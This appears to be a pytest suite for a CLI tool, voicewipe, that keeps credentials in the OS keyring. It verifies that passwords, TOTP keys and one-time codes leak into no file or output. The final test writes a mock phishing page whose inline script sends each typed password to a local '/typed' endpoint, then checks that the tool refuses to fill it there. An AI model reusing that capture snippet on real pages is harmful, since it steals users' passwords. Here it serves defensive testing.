"""Credentials in the OS keyring and what must never leak from them: `voicewipe credentials`
set/status/forget against a real Secret Service, the clear refusal where there is no keyring,
the canary run that searches every file a run leaves for the password, the authenticator key
and its one-time codes, the encrypted saved sign-in, and a secret typed only on its origins.

Every test stores a uniquely named account and forgets it afterwards: the keyring is shared by
the whole test session (and kept on disk by gnome-keyring)."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import time
import urllib.parse
import uuid
import zipfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pyotp
import pytest
import secretstorage
from cryptography.fernet import Fernet, InvalidToken

from clirun import Result, run_cli
from voicewipe import credentials, staticsite
from voicewipe.alexa import sessions, sitefiles
from voicewipe.mock import DEMO_EMAIL

MARKET = "amazon.com"


def _message(err: str) -> str:
    """The command's final message: what follows the last 'voicewipe: ' on stderr."""
    assert "voicewipe: " in err, err
    return err[err.rindex("voicewipe: ") :].strip()


def _unique(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex}@example.com"


def _keyring_items(account: str) -> list[str]:
    """Every entry voicewipe has in the Secret Service for this account, read directly (not
    through voicewipe): their user names."""
    prefix = f"{account.lower()}|"
    with closing(secretstorage.dbus_init()) as connection:
        found = []
        for item in secretstorage.search_items(connection, {"service": credentials.SERVICE}):
            name = item.get_attributes().get("username", "")
            if name.startswith(prefix):
                found.append(name)
        return found


def _scrub(account: str) -> None:
    """Remove the account's entries from the Secret Service directly, whatever state a test
    (or a bug) left them in."""
    prefix = f"{account.lower()}|"
    with closing(secretstorage.dbus_init()) as connection:
        for item in secretstorage.search_items(connection, {"service": credentials.SERVICE}):
            if item.get_attributes().get("username", "").startswith(prefix):
                item.delete()


@pytest.fixture
def account() -> Iterator[str]:
    """A fresh account name, removed from the keyring afterwards whatever the test did."""
    name = _unique("vw-test")
    try:
        yield name
    finally:
        _scrub(name)


def _set(account: str, stdin: str, *extra: str) -> Result:
    return run_cli(
        "credentials", "set", "--account", account, "--password-stdin", *extra,
        stdin=io.StringIO(stdin),
    )  # fmt: skip


# --- set, status, forget ----------------------------------------------------------------------
def test_set_status_forget_round_trip(account):
    """What `set` stores is in the keyring (not in any file), `status` names the account and
    the backend but never a secret, and `forget` removes the secrets and the account's saved
    sign-ins, leaving other accounts' alone."""
    password = f"pw-{uuid.uuid4().hex}"
    key = pyotp.random_base32()
    other = _unique("vw-neighbour")
    try:
        done = _set(account, f"{password}\n{key}\n")
        assert done.code == 0, done.err
        assert "SecretService" in done.out
        assert len(_keyring_items(account)) == 2  # the password and the key

        found_password, found_key = credentials.lookup(account, MARKET, ("https://x.test",))
        assert found_password is not None and found_password.reveal() == password
        assert found_key is not None and found_key.reveal() == key
        assert found_password.origins == ("https://x.test",)
        # stored for every marketplace, so found for another one too
        assert credentials.lookup(account, "amazon.de", ())[0] is not None

        status = run_cli("credentials", "status")
        assert status.code == 0, status.err
        assert "SecretService" in status.out
        line = next(x for x in status.out.splitlines() if x.startswith(account))
        assert "password and authenticator key" in line

        index = Path(os.environ["XDG_STATE_HOME"]) / "voicewipe" / "accounts.json"
        for text in (done.out, done.err, status.out, status.err, index.read_text("utf-8")):
            assert password not in text
            assert key not in text

        # saved sign-ins of this account on two sites, and one of another account
        mine = [
            sessions.save("http://127.0.0.1:1", account, {"cookies": []}),
            sessions.save("https://www.amazon.de", account, {"cookies": []}),
        ]
        theirs = sessions.save("http://127.0.0.1:1", other, {"cookies": []})
        assert all(p is not None and p.is_file() for p in [*mine, theirs])

        gone = run_cli("credentials", "forget", "--account", account)
        assert gone.code == 0, gone.err
        assert "removed 4 entries" in gone.out
        assert credentials.lookup(account, MARKET, ()) == (None, None)
        assert _keyring_items(account) == []
        assert not any(p is not None and p.exists() for p in mine)
        assert theirs is not None and theirs.is_file()

        after = run_cli("credentials", "status")
        assert after.code == 0, after.err
        assert account not in after.out
        assert "no accounts stored" in after.out
    finally:
        _scrub(other)


@pytest.mark.parametrize("extra", [["--no-totp"], []], ids=["no-totp", "no-key-line"])
def test_password_without_key(account, extra):
    """An account without an authenticator key (codes by SMS, or none): `set` stores the
    password alone, `status` says so, and `forget` removes it."""
    password = f"pw-{uuid.uuid4().hex}"
    done = _set(account, f"{password}\n", *extra)
    assert done.code == 0, done.err
    found_password, found_key = credentials.lookup(account, MARKET, ())
    assert found_password is not None and found_password.reveal() == password
    assert found_key is None

    status = run_cli("credentials", "status")
    assert status.code == 0, status.err
    line = next(x for x in status.out.splitlines() if x.startswith(account))
    assert line.endswith("password"), line

    gone = run_cli("credentials", "forget", "--account", account)
    assert gone.code == 0, gone.err
    assert _keyring_items(account) == []
    assert account not in run_cli("credentials", "status").out


def test_forget_keeps_sign_ins_of_similar_accounts(account):
    """`forget` removes this account's saved sign-ins only, not those of an account whose
    address merely ends the same way."""
    assert _set(account, f"pw-{uuid.uuid4().hex}\n{pyotp.random_base32()}\n").code == 0
    neighbour = f"x--{account}"
    mine = sessions.save("http://127.0.0.1:1", account, {"cookies": []})
    theirs = sessions.save("http://127.0.0.1:1", neighbour, {"cookies": []})
    assert mine is not None and theirs is not None and mine != theirs

    gone = run_cli("credentials", "forget", "--account", account)
    assert gone.code == 0, gone.err
    assert not mine.exists()
    assert theirs.exists(), f"forgetting {account} removed the saved sign-in of {neighbour}"


def test_key_is_normalised(account):
    """A key typed as an app shows it (lower case, in groups of four) is stored as base32."""
    key = pyotp.random_base32()
    typed = " ".join(key[i : i + 4] for i in range(0, len(key), 4)).lower()
    done = _set(account, f"pw-{uuid.uuid4().hex}\n{typed}\n")
    assert done.code == 0, done.err
    found = credentials.lookup(account, MARKET, ())[1]
    assert found is not None and found.reveal() == key


@pytest.mark.parametrize(
    ("stdin", "said"),
    [
        ("pw-{hex}\nnot-base32!\n", "not base32"),
        ("pw-{hex}\nJBSWY3DP0189\n", "not base32"),  # 0, 1, 8, 9 are not base32 letters
        ("\nJBSWY3DPEHPK3PXP\n", "password is empty"),
        ("", "password is empty"),
    ],
)
def test_set_refuses_bad_input(account, stdin, said):
    """A key that is not base32 or an empty password: exit 2, one line, nothing stored."""
    done = _set(account, stdin.format(hex=uuid.uuid4().hex))
    assert done.code == 2, done.err
    message = _message(done.err)
    assert said in message
    assert "nothing was stored" in message
    assert credentials.lookup(account, MARKET, ()) == (None, None)
    assert account not in [entry.account for entry in credentials.stored()]


# --- no keyring -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "backend", ["keyring.backends.fail.Keyring", "keyring.backends.null.Keyring"]
)
@pytest.mark.parametrize(
    ("args", "stdin"),
    [
        (["credentials", "status"], ""),
        (["credentials", "set", "--account", "a@example.com", "--password-stdin"], "pw\n"),
        (["export", "--account", "a@example.com", "--no-screenshots"], ""),
    ],
    ids=["status", "set", "export"],
)
def test_no_keyring_says_what_to_install(tmp_path, backend, args, stdin):
    """Without a usable keyring the command stops at once (exit 2) with one line naming what
    to install or choose; `export` on the real marketplace stops before any browser starts or
    any run folder is made (the browser is a path that does not exist, as a tripwire)."""
    out = tmp_path / "out"
    env = {
        **os.environ,
        "PYTHON_KEYRING_BACKEND": backend,
        "VOICEWIPE_BROWSER": str(tmp_path / "no-such-browser"),
    }
    argv = [*args, "--out", str(out)] if args[0] == "export" else args
    done = subprocess.run(
        [sys.executable, "-m", "voicewipe", *argv],
        input=stdin,
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1, done.stderr
    message = lines[0]
    assert message.startswith("voicewipe: ")
    assert "keyring" in message
    for named in ("gnome-keyring", "Secret Service", "keyrings.alt"):
        assert named in message
    assert "Traceback" not in done.stderr
    assert not out.exists()
    assert not (tmp_path / "state" / "voicewipe" / "accounts.json").exists()


# --- the canary -------------------------------------------------------------------------------
def _needles(secret: str) -> set[bytes]:
    """The secret as it could leak: plain, URL-encoded, base64 (standard and URL-safe; the
    characters fixed by the value alone, so a longer base64 text holding it is caught too)."""
    forms = {
        secret,
        urllib.parse.quote(secret),
        urllib.parse.quote(secret, safe=""),
        urllib.parse.quote_plus(secret),
    }
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        whole = encode(secret.encode()).decode()
        forms |= {whole, whole[: len(secret) // 3 * 4]}
    return {form.encode() for form in forms}


def _leaks(blob: bytes, needles: set[bytes], codes: set[str]) -> list[str]:
    found = [n.decode() for n in needles if n in blob]
    found += [c for c in codes if re.search(rb"(?<!\d)" + c.encode() + rb"(?!\d)", blob)]
    return found


def _search(root: Path, needles: set[bytes], codes: set[str]) -> dict[str, list[str]]:
    """Every file under root, and every member of every zip among them."""
    hits: dict[str, list[str]] = {}
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        blobs = {str(path): path.read_bytes()}
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as archive:
                for member in archive.namelist():
                    blobs[f"{path}!{member}"] = archive.read(member)
        for where, blob in blobs.items():
            if found := _leaks(blob, needles, codes):
                hits[where] = found
    return hits


def test_canary_secrets_leak_nowhere(mock, vw, tmp_path):
    """A wipe that types a unique password and one-time codes from a unique key leaves neither
    them nor the key in any file (run folders, logs, export, state, session) nor on the
    terminal; it keeps no trace.zip, and a later run on the saved sign-in keeps one that holds
    nothing of them either."""
    hexa = uuid.uuid4().hex
    account = f"canary-{hexa}@example.com"
    # odd characters, so that the URL-encoded forms differ from the plain one
    password = f"canary-{hexa} p@ss/w+rd&x=%y"
    key = pyotp.random_base32()
    mock.reset(
        recordings=30,
        email=account,
        password=password,
        totp_secret=key,
        mfa="totp",
        deletion_delay_s=0.2,  # the leak search, not the waiting, is what this test is for
        # and through today's pages around the password: the claim step, the passkey nudge,
        # the phone prompt and the regional hop
        signin="claim",
        passkey_nudge=True,
        phone_fixup=True,
        regional_hop=True,
    )
    try:
        stored = _set(account, f"{password}\n{key}\n")
        assert stored.code == 0, stored.err

        started = time.time()
        wipe = vw("wipe", "--yes", "--account", account, "--tracing", "on", "--json")
        assert wipe.code == 0, wipe.result.err
        state = mock.state()
        assert state["recordings"] == 0
        assert state["signin"]["successes"] == 1
        assert state["signin"]["mfa_failures"] == 0
        assert (state["signin"]["passkey_nudges"], state["signin"]["phone_fixups"]) == (1, 1)
        assert "no trace.zip" in wipe.result.err
        first = wipe.run_folders[-1]
        assert not (first / "trace.zip").exists()
        assert list(first.glob("*.png")), "the canary run must keep its screenshots"
        assert sessions.session_file(mock.url, account).is_file()

        again = vw("export", "--account", account, "--tracing", "on", "--json", timeout=120)
        finished = time.time()
        assert again.code == 0, again.result.err
        assert "the saved sign-in still works" in again.result.err
        assert mock.state()["signin"]["successes"] == 1  # nothing typed this time
        trace = again.run_folders[-1] / "trace.zip"
        assert trace.is_file() and zipfile.is_zipfile(trace)
        assert len(zipfile.ZipFile(trace).namelist()) > 1

        needles = _needles(password) | _needles(key)
        totp = pyotp.TOTP(key)
        codes = {totp.at(t) for t in range(int(started) - 90, int(finished) + 91, 10)}
        # the search itself finds what it looks for
        code = next(iter(codes))
        for planted in (
            f"password={urllib.parse.quote_plus(password)}&otpCode={code}&x=1",
            f"Authorization: Basic {base64.b64encode(password.encode()).decode()}",
            f"secret: {base64.urlsafe_b64encode(key.encode()).decode()}",
        ):
            assert _leaks(planted.encode(), needles, codes), planted
        hits = _search(tmp_path, needles, codes)
        for name, text in {
            "set": stored.out + stored.err,
            "wipe": wipe.result.out + wipe.result.err,
            "export": again.result.out + again.result.err,
        }.items():
            if found := _leaks(text.encode(), needles, codes):
                hits[f"<{name} stdout/stderr>"] = found
        assert not hits, f"secrets found: {hits}"

        # the search did look where the secrets would have gone
        searched = {p.name for p in tmp_path.rglob("*") if p.is_file()}
        for name in ("run.json", "voicewipe.log", "manifest.json", "accounts.json"):
            assert name in searched, name
        assert any(n.endswith(".session") for n in searched)
    finally:
        _scrub(account)


# --- the saved sign-in ------------------------------------------------------------------------
def test_saved_session_opens_nothing_without_the_key(mock, vw):
    """The saved sign-in file holds no cookie value (not even base64-encoded) to someone
    without the keyring's key: it is readable by its owner only and another key cannot open
    it."""
    mock.reset(recordings=5)
    done = vw("export", "--no-audio", "--no-screenshots")
    assert done.code == 0, done.result.err
    path = sessions.session_file(mock.url, DEMO_EMAIL)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    raw = path.read_bytes()

    state: dict[str, Any] = json.loads(Fernet(credentials.session_key()).decrypt(raw))
    cookies = {c["name"]: c["value"] for c in state["cookies"]}
    assert "at-main" in cookies, sorted(cookies)
    values = [v for v in cookies.values() if len(v) >= 8]  # short ones match anything by chance
    assert values
    opened = base64.urlsafe_b64decode(raw)  # the token's own layer, without the key
    for value in values:
        for form in _needles(value):
            assert form not in raw
            assert form not in opened

    with pytest.raises(InvalidToken):
        Fernet(Fernet.generate_key()).decrypt(raw)


# --- a secret is typed on its own origins only ------------------------------------------------
def test_secret_is_not_typed_on_another_origin(mock, vw, tmp_path, monkeypatch):
    """A flows copy edited to lead the password to another site (listed in its origins, so
    the browser may go there) is stopped at the fill: exit 4, the message names where the
    password may be typed, and the other site never receives a keystroke of it."""
    account = _unique("vw-evil")
    password = f"evil-canary-{uuid.uuid4().hex}"
    mock.reset(recordings=5, email=account, password=password)
    monkeypatch.setenv("VOICEWIPE_SECRET_PASSWORD", password)

    requests: list[str] = []
    monkeypatch.setattr(
        staticsite._QuietHandler,
        "log_message",
        lambda self, format, *args: requests.append(format % args),
    )
    evil_root = tmp_path / "evil"
    evil_root.mkdir()
    (evil_root / "evil.html").write_text(
        '<!doctype html><title>Sign in</title><input id="ap_password" type="password">'
        "<script>document.getElementById('ap_password').addEventListener('input', e =>"
        " fetch('/typed?v=' + encodeURIComponent(e.target.value)));</script>",
        encoding="utf-8",
    )
    flows = tmp_path / "flows"
    shutil.copytree(sitefiles.PACKAGED, flows)
    sign_in = flows / "sign-in.yaml"
    text = sign_in.read_text(encoding="utf-8")

    with staticsite.StaticSite(evil_root) as evil:
        origins = 'origins: ["{{ site }}", "{{ signin_origins }}"]'
        assert text.count(origins) == 1
        text = text.replace(
            origins, f'origins: ["{{{{ site }}}}", "{{{{ signin_origins }}}}", "{evil.url}"]'
        )
        fill = '- fill: {target: {css: "#ap_password"}, value: "{{ password }}"}'
        at = text.index(fill, text.index("label: Password page"))
        indent = text[text.rindex("\n", 0, at) + 1 : at]
        text = f'{text[:at]}- goto: "{evil.url}/evil.html"\n{indent}{text[at:]}'
        sign_in.write_text(text, encoding="utf-8")

        done = vw(
            "export", "--no-audio", "--no-screenshots", "--flows", str(flows), "--account", account
        )
    assert any("/evil.html" in r for r in requests), "the edited flow never reached the page"
    typed = [r for r in requests if "/typed" in r]
    assert not typed, f"the password was typed on the other site: {typed}"
    assert mock.state()["signin"]["password_attempts"] == 0
    assert done.code == 4, done.result.err
    message = _message(done.result.err)
    assert f"may be typed on {mock.url} only" in message
    assert evil.url in message
    assert "nothing was typed" in message

    run = done.run_json
    assert run["exit_code"] == 4
    last = max(run["steps"], key=lambda step: step["number"])
    assert last["kind"] == "fill"
    assert last["outcome"] == "failed"
    assert "refused" in last["message"]
    assert last["selector"] and "#ap_password" in last["selector"]
    assert (last["url"] or "").startswith(evil.url)
    gotos = [s for s in run["steps"] if s["kind"] == "goto" and evil.url in (s["url"] or "")]
    assert gotos, "the run never went to the other site"
    leaks = _search(tmp_path / "out", _needles(password), set())
    assert not leaks, leaks
    assert password not in done.result.out + done.result.err
